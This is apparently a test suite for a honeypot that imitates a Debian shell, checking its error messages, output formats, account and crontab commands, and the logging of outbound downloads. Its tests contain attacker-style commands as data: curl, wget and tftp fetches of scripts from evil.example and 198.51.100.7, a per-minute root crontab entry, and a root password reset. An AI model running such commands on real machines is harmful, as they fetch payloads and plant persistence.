"""Messages and statuses of the programs of the system, to the letter."""

import re

from twisted.trial.unittest import SynchronousTestCase

from honeyllm.events import CommandChpasswd, CommandSuccess, FileDownloadFailed
from honeyllm.host import matches_password
from honeyllm.vfs import Credentials
from tests.support.machine_host import MachineHost

NOBODY = Credentials(uid=65534, gid=65534, groups=frozenset({65534}))
REFUSED = "curl: (7) Failed to connect to 127.0.0.1 port 8181 after 0 ms: Couldn't connect to server\n"
FAULTS: tuple[tuple[tuple[str, ...], int, str], ...] = (
    (("uname", "-x"), 1, "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n"),
    (("uname", "extra"), 1, "uname: extra operand ‘extra’\nTry 'uname --help' for more information.\n"),
    (("id", "nosuch_zz"), 1, "id: ‘nosuch_zz’: no such user\n"),
    (("date", "-d", "bogus"), 1, "date: invalid date ‘bogus’\n"),
    (("df", "/nosuch_zz"), 1, "df: /nosuch_zz: No such file or directory\n"),
    (("df", "-t", "bogus"), 1, "df: no file systems processed\n"),
    (("stty", "size"), 1, "stty: 'standard input': Inappropriate ioctl for device\n"),
    (("curl", "--bogus"), 2, "curl: option --bogus: is unknown\n"),
    (("curl", "-s", "-S", "127.0.0.1:8181/x"), 7, REFUSED),
    (("curl", "-sS", "nosuch.example"), 6, "curl: (6) Could not resolve host: nosuch.example\n"),
    (("wget",), 1, "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n"),
    (("wget", "-z"), 2, "wget: invalid option -- 'z'\n"),
    (("ping", "-c", "1", "nosuch.example"), 2, "ping: nosuch.example: Name or service not known\n"),
    (("passwd", "nosuch_zz"), 1, "passwd: user 'nosuch_zz' does not exist\n"),
    (("useradd", "root"), 9, "useradd: user 'root' already exists\n"),
    (("useradd", "bad name"), 3, "useradd: invalid user name 'bad name': use --badname to ignore\n"),
    (("groupadd", "root"), 9, "groupadd: group 'root' already exists\n"),
    (("crontab", "-l"), 1, "no crontab for root\n"),
    (("crontab", "-u", "nosuch_zz", "-l"), 1, "crontab:  user `nosuch_zz' unknown\n"),
    (("systemctl", "nosuch"), 1, "Unknown command verb nosuch.\n"),
    (("apt-get", "install", "nosuch_zz"), 100, "E: Unable to locate package nosuch_zz\n"),
    (("apt-get", "--bogus-option"), 100, "E: Command line option --bogus-option is not boolean\n"),
    (("dpkg", "-l", "nosuch"), 1, "dpkg-query: no packages found matching nosuch\n"),
    (("getconf", "--bogus"), 2, "getconf: Unrecognized variable `--bogus'\n"),
    (("locale", "bogus"), 1, 'locale: unknown name "bogus"\n'),
    (("killall", "nosuch"), 1, "nosuch: no process found\n"),
    (("pgrep",), 2, "pgrep: no matching criteria specified\nTry `pgrep --help' for more information.\n"),
    (("ps", "-p", "x"), 1, "error: process ID list syntax error\n"),
    (("ps", "--sort", "bogus"), 1, "error: unknown sort specifier\n"),
    (("ps", "-o", "bogus"), 1, 'error: unknown user-defined format specifier "bogus"\n'),
    (("ps", "-J", "x"), 1, "error: unsupported SysV option\n"),
    (("busybox", "ECCHI"), 127, "ECCHI: applet not found\n"),
    (("busybox", "cat", "/nosuch"), 1, "cat: can't open '/nosuch': No such file or directory\n"),
    (("busybox", "rm", "/nosuch"), 1, "rm: can't remove '/nosuch': No such file or directory\n"),
    (("lspci", "--bogus"), 1, "lspci: invalid option -- '-'\nUsage: lspci [<switches>]\n"),
)
LAYOUTS: tuple[tuple[tuple[str, ...], str], ...] = (
    (
        ("ps", "aux"),
        r"USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1 ",
    ),
    (("ps", "-ef"), r"UID          PID    PPID  C STIME TTY          TIME CMD\nroot           1       0  0 "),
    (("ps", "-x"), r"    PID TTY      STAT   TIME COMMAND\n      1 \?        Ss  "),
    (("ps", "-o", "pid=,comm=", "-p", "1"), r"      1 systemd\n$"),
    (("free",), r" {15}total        used        free      shared  buff/cache   available\nMem: +\d+"),
    (("free", "-h"), r".*\nMem:( +[\d.]+(B|Ki|Mi|Gi)){6}\nSwap:( +0B){3}\n$"),
    (("uptime",), r" \d\d:\d\d:\d\d up \d+ days, [ \d]\d:\d\d,  0 user,  load average: \d\.\d\d, "),
    (("uptime", "-p"), r"up (\d+ (week|day|hour|minute)s?(, )?)+\n$"),
    (("date", "-u", "-d", "@0"), r"Thu Jan  1 00:00:00 UTC 1970\n$"),
    (("id",), r"uid=0\(root\) gid=0\(root\) groups=0\(root\)\n$"),
    (
        ("ss", "-tln"),
        r"State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\nLISTEN 0      128          0",
    ),
    (("dmesg",), r"\[    0\.000000\] Linux version 6\.1"),
    (("last", "-n", "1"), r"(.+\n)\nwtmp begins \w{3} \w{3} "),
    (("top", "-b", "-n1"), r"top - \d\d:\d\d:\d\d up .*\nTasks: +\d+ total, "),
    (("systemctl", "is-active", "ssh"), r"active\n$"),
    (("dpkg", "--print-architecture"), r"amd64\n$"),
)


class Messages(SynchronousTestCase):
    """What goes wrong is said as Debian's programs say it."""

    def test_faults(self) -> None:
        """Standard error begins as expected, and the exit status is right."""
        host = MachineHost()
        for argv, status, message in FAULTS:
            result = host.run(*argv)
            self.assertEqual((result.stderr.decode()[: len(message)], result.status), (message, status), argv)

    def test_layouts(self) -> None:
        """Standard output looks as it does on Debian 12."""
        host = MachineHost()
        for argv, pattern in LAYOUTS:
            self.assertRegex(host.out(*argv), r"\A" + pattern, argv)

    def test_model_name_survives_the_cut_of_a_known_worm(self) -> None:
        """``lscpu | egrep "Model name:" | cut -d ' ' -f 14-`` leaves the model."""
        host = MachineHost()
        row = next(row for row in host.out("lscpu").splitlines() if "Model name:" in row)
        self.assertEqual(" ".join(row.split(" ")[13:]).strip(), host.persona.hardware.cpu.model_name)


class Accounts(SynchronousTestCase):
    """Passwords and users of a world."""

    def test_passwd(self) -> None:
        """A password typed twice is set, told to the log, and can be checked."""
        host = MachineHost()
        result = host.run("passwd", stdin=b"s3cret\ns3cret\n")
        expected = b"New password: Retype new password: passwd: password updated successfully\n"
        self.assertEqual((result.stderr, result.status), (expected, 0))
        field = next(r.split(":")[1] for r in host.read("/etc/shadow").splitlines() if r.startswith("root:"))
        self.assertTrue(matches_password("s3cret", field))
        self.assertFalse(matches_password("other", field))
        self.assertEqual(
            [e.input for e in host.events if isinstance(e, CommandSuccess)], ["s3cret", "s3cret"]
        )

    def test_passwd_that_does_not_match(self) -> None:
        """Two different passwords change nothing."""
        result = MachineHost().run("passwd", stdin=b"a\nb\n")
        self.assertIn(b"Sorry, passwords do not match.\npasswd: Authentication token", result.stderr)
        self.assertEqual(result.status, 10)

    def test_chpasswd(self) -> None:
        """Each line sets one password."""
        host = MachineHost()
        self.assertEqual(host.run("chpasswd", stdin=b"root:x\nnosuch:y\n").status, 1)
        changed = [e.username for e in host.events if isinstance(e, CommandChpasswd)]
        self.assertEqual(changed, ["root", "nosuch"])

    def test_user_lives_and_dies(self) -> None:
        """useradd makes what id, getent and /etc/passwd show; userdel takes it away."""
        host = MachineHost()
        host.out("useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "bob")
        self.assertRegex(host.out("id", "bob"), r"uid=\d+\(bob\) gid=\d+\(bob\) groups=\d+\(bob\),27\(sudo\)")
        self.assertIn("/home/bob:/bin/bash", host.out("getent", "passwd", "bob"))
        self.assertIn(".bashrc", host.fs.names("/home/bob"))
        host.run("userdel", "-r", "bob")
        self.assertEqual(host.run("id", "bob").status, 1)
        self.assertFalse(host.fs.exists("/home/bob"))

    def test_only_root_may(self) -> None:
        """An ordinary user cannot read others' environment, change passwords or clear the kernel's log."""
        host = MachineHost(user=NOBODY)
        self.assertEqual(host.run("cat", "/proc/1/environ").status, 1)
        self.assertEqual(host.run("dmesg", "-C").status, 1)
        self.assertEqual(host.run("chpasswd", stdin=b"root:x\n").status, 1)
        self.assertEqual(host.run("hostname", "x").status, 1)


class Network(SynchronousTestCase):
    """What leads outside leads nowhere, and is told."""

    def test_downloads_are_noted(self) -> None:
        """Every URL that is no service of the virtual Internet becomes an event."""
        host = MachineHost()
        host.run("curl", "-O", "http://198.51.100.7/x.sh")
        host.run("wget", "198.51.100.7/y")
        host.run("busybox", "wget", "http://evil.example/z")
        host.run("busybox", "tftp", "-g", "-r", "a", "198.51.100.7")
        urls = [e.url for e in host.events if isinstance(e, FileDownloadFailed)]
        expected = ["http://198.51.100.7/x.sh", "http://198.51.100.7/y", "http://evil.example/z"]
        self.assertEqual(urls, [*expected, "tftp://198.51.100.7/a"])

    def test_address_services(self) -> None:
        """They all tell the persona's public address."""
        host = MachineHost()
        for url in ("ifconfig.me", "icanhazip.com", "api.ipify.org", "checkip.amazonaws.com", "ident.me"):
            self.assertEqual(host.out("curl", "-s", url).strip(), host.persona.network.public_ipv4)
        self.assertIn(host.persona.network.public_ipv4, host.out("wget", "-qO-", "ip-api.com/json"))


class Crontab(SynchronousTestCase):
    """crontab over the spool."""

    def test_install_list_remove(self) -> None:
        """What is installed is listed without its heading, until it is removed."""
        host = MachineHost()
        self.assertEqual(host.run("crontab", "-", stdin=b"* * * * * /tmp/x\n").status, 0)
        self.assertEqual(host.out("crontab", "-l"), "* * * * * /tmp/x\n")
        self.assertTrue(re.match("# DO NOT EDIT", host.read("/var/spool/cron/crontabs/root")))
        host.run("crontab", "-r")
        self.assertEqual(host.run("crontab", "-l").stderr, b"no crontab for root\n")

    def test_bad_line(self) -> None:
        """A wrong line is refused with its number."""
        result = MachineHost().run("crontab", "-", stdin=b"* * * * * ok\nnonsense\n")
        self.assertEqual(result.stderr, b'"-":1: bad minute\nerrors in crontab file, can\'t install.\n')
